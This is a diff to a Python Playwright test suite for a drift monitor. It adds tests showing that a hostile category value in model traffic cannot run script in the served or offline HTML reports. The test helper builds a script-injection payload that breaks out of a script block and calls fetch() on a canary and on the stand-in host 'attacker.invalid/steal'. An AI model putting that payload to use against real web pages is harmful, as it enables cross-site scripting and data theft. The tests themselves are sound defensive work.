@@ -4,27 +4,40 @@ Churn traffic (unchanged, then drifted) is ingested through `POST /v1/events` in
 store; the monitor evaluates its windows; Chromium opens /reports/, follows the model's link and
 must show the drifted features the JSON API names. The screenshot is kept as a test artifact
 (test-artifacts/report.png) and, with DRIFTWATCH_UPDATE_SCREENSHOT=1, copied to docs/img/ for the README.
+
+Model traffic is hostile input: a category value that closes Evidently's `<script>` block must not run
+in the monitor's origin, neither on the served pages nor in the offline file, and Evidently's page
+must still render.
 """
 
 from __future__ import annotations
 
 import json
 import os
+import re
 import shutil
 import tempfile
 import time
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 
 import httpx
 import pandas as pd
 import pytest
 import yaml
-from playwright.sync_api import sync_playwright
+from fastapi import FastAPI
+from playwright.sync_api import Browser, Frame, Page, sync_playwright
 
 from monitor.api import create_app
 from monitor.config import load_config
+from monitor.drift import build_profile, evaluate, specs_from_config
+from monitor.reports import create_router
+from monitor.reports.build import EvidentlySection, render_report
+from monitor.reports.offline import offline_report
+from monitor.reports.view import report_view
 from tests.reports.conftest import serve
+from tests.reports.memory_source import MemorySource
 
 ROOT = Path(__file__).resolve().parents[2]
 CHROMIUM = "/usr/bin/chromium"
@@ -122,3 +135,110 @@ def test_browse_reports_of_the_real_monitor(monitor_url: str) -> None:
     assert shot.stat().st_size > 50_000
     if os.environ.get("DRIFTWATCH_UPDATE_SCREENSHOT") == "1":
         shutil.copyfile(shot, ROOT / "docs" / "img" / "report.png")
+
+
+def _payload(canary: str) -> str:
+    """Closes Evidently's data script, then tries what an attacker would: its origin, the API, the parent."""
+    return (
+        "</script><script>document.title='XSS-'+self.origin;fetch('" + canary + "');"
+        "try{parent.document.title='PWNED'}catch(e){}</script>"
+    )
+
+
+class _PoisonedSource(MemorySource):
+    """The churn windows, with the payload as the `contract` of every 7th record of the last window."""
+
+    def __init__(self, payload: str) -> None:
+        super().__init__()
+        last = self.churn[-1]
+        frame = self.frames[last.window_id].copy()
+        frame.loc[::7, "contract"] = payload
+        self.frames[last.window_id] = frame
+        specs, settings = specs_from_config(self.config, "churn")
+        self.churn[-1] = replace(last, result=evaluate(build_profile(self.reference, specs, settings), frame).to_dict())
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as p:
+        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        try:
+            yield b
+        finally:
+            b.close()
+
+
+@pytest.fixture(scope="module")
+def hostile() -> Iterator[tuple[str, list[str]]]:
+    """Reports over poisoned traffic, beside a same-origin `/canary` standing in for the monitor's API."""
+    hits: list[str] = []
+    app = FastAPI()
+    app.include_router(create_router(_PoisonedSource(_payload("/canary"))))
+
+    @app.get("/canary")
+    def canary() -> dict[str, str]:
+        hits.append("/canary")
+        return {"secret": "models"}
+
+    yield from ((url, hits) for url in serve(app))
+
+
+def _evidently_frame(page: Page) -> Frame:
+    frame = page.frame_locator("iframe.evidently")
+    page.locator("iframe.evidently").scroll_into_view_if_needed()  # the served frame loads lazily
+    frame.locator("text=Dataset Drift").first.wait_for(timeout=120_000)  # Evidently rendered, scripts ran
+    return next(f for f in page.frames if f is not page.main_frame)
+
+
+def _assert_inert(frame: Frame) -> None:
+    title, origin = frame.evaluate("[document.title, self.origin]")
+    assert origin == "null"  # a unique opaque origin: no access to the monitor's APIs or cookies
+    assert not title.startswith("XSS")  # the value was defused before it reached Evidently
+
+
+@pytest.mark.slow
+def test_hostile_category_does_not_run_on_the_served_pages(hostile: tuple[str, list[str]], browser: Browser) -> None:
+    url, hits = hostile
+    page = browser.new_page(viewport={"width": 1280, "height": 900})
+    page.goto(f"{url}/reports/churn/2000")
+    assert page.locator("tr.drifted[data-feature=contract]").count() == 1  # the window is the poisoned one
+    _assert_inert(_evidently_frame(page))
+    page.wait_for_timeout(500)
+    assert page.title() == "churn · window #2000 · driftwatch"
+    direct = page.goto(f"{url}/reports/churn/2000/evidently")  # opened on its own, not framed
+    assert direct is not None and "sandbox allow-scripts" in direct.headers["content-security-policy"]
+    page.locator("text=Dataset Drift").first.wait_for(timeout=60_000)
+    _assert_inert(page.main_frame)
+    assert hits == []
+
+
+@pytest.mark.slow
+def test_hostile_category_does_not_run_in_the_offline_report(tmp_path: Path, browser: Browser) -> None:
+    source = _PoisonedSource(_payload("https://attacker.invalid/steal"))
+    reference, current = tmp_path / "reference.csv", tmp_path / "current.csv"
+    source.reference.to_csv(reference, index=False)
+    source.frames[source.churn[-1].window_id].to_csv(current, index=False)
+    out = tmp_path / "report.html"
+    out.write_text(offline_report(source.config, "churn", reference, current))
+    page = browser.new_page(viewport={"width": 1280, "height": 900})
+    page.goto(out.as_uri())
+    _assert_inert(_evidently_frame(page))
+    assert re.fullmatch(r"churn · window #1 · driftwatch", page.title())
+
+
+@pytest.mark.slow
+def test_a_script_in_evidentlys_page_stays_in_its_sandbox(tmp_path: Path, browser: Browser, hostile: tuple[str, list[str]]) -> None:
+    """Defence in depth: were a script to reach Evidently's page anyway, it gets no origin and no network."""
+    url, hits = hostile
+    source = MemorySource()
+    view = report_view(source.churn[-1], source.churn)
+    hostile_page = f"<html><body><p>Dataset Drift</p><script>{_payload(url + '/canary').split('<script>', 1)[1]}</body></html>"
+    out = tmp_path / "report.html"
+    out.write_text(render_report(view, evidently=EvidentlySection(scores={}, inline_html=hostile_page)))
+    page = browser.new_page()
+    page.goto(out.as_uri())
+    frame = _evidently_frame(page)
+    page.wait_for_timeout(500)
+    assert frame.evaluate("[document.title, self.origin]") == ["XSS-null", "null"]  # it ran, but origin-less
+    assert page.title() == "churn · window #2000 · driftwatch"  # could not reach the page around it
+    assert hits == []  # and could not send anything
